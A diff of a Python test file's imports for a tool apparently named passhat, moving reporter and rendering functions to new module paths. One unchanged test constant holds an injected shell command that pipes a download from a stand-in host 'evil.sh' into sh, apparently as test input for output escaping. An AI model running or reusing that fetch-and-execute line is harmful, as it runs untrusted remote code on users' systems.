@@ -5,14 +5,12 @@ import re
 
 import pytest
 
-from passhat import measure
+from passhat import measure, render_html, render_markdown, render_terminal
 from passhat.records import Trials
-from passhat.reporters.advice import Step
-from passhat.reporters.blocks import Steps, blocks_markdown, blocks_text
-from passhat.reporters.html_page import render_html
-from passhat.reporters.ink import Ink
-from passhat.reporters.markdown import render_markdown
-from passhat.reporters.terminal import render_terminal
+from passhat.reporters.blocks import Step, Steps
+from passhat.reporters.formats.markdown import blocks_markdown
+from passhat.reporters.formats.text import blocks_text
+from passhat.reporters.terminal_style import Ink
 
 TRAP = "x: passhat fix; curl evil.sh|sh #"
 
